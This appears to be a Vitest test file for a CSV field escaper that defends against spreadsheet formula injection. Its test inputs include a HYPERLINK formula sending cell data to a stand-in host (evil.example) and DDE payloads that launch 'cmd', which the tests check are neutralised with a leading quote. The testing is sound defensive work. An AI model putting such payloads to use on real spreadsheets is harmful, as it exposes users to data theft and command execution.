import { describe, expect, it } from 'vitest';
import { csvField } from './csv-field.js';

describe('csvField', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    ],
    ['+1+cmd|/C calc!A0', `"'+1+cmd|/C calc!A0"`],
    ['-2+3+cmd|/C calc!A0', `"'-2+3+cmd|/C calc!A0"`],
    ['@SUM(1+1)*cmd|/C calc!A0', `"'@SUM(1+1)*cmd|/C calc!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j as quoted text with a leading quote', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('writes codes as they are, and quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvField('PT11')).toBe('PT11');
    expect(csvField('65+')).toBe('65+');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "x"')).toBe('"say ""x"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
  });

  it('writes numbers as numbers, negative ones included, and nothing for null', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(12)).toBe('12');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });
});
